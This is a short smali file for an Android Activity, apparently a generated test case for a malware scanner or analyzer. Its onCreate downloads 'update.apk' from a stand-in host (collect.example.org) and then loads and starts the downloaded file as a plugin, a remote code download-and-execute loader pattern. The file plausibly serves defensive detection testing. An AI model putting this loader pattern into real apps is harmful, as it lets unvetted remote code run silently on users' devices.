# Made by tests/cases/compile.py
.class public final Lcases/loader_download/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 6
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Ljava/io/File;
    invoke-virtual {p0}, Lcases/loader_download/Main;->getFilesDir()Ljava/io/File;
    move-result-object v2
    const-string v3, "update.apk"
    invoke-direct {v0, v2, v3}, Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
    const-string v1, "https://collect.example.org/update"
    invoke-static {v1, v0}, Lcases/loader_download/Fetcher;->fetch(Ljava/lang/String;Ljava/io/File;)V
    new-instance v1, Lcases/loader_download/Plugin;
    invoke-direct {v1, v0}, Lcases/loader_download/Plugin;-><init>(Ljava/io/File;)V
    invoke-virtual {v1, p0}, Lcases/loader_download/Plugin;->start(Landroid/content/Context;)V
    return-void
.end method
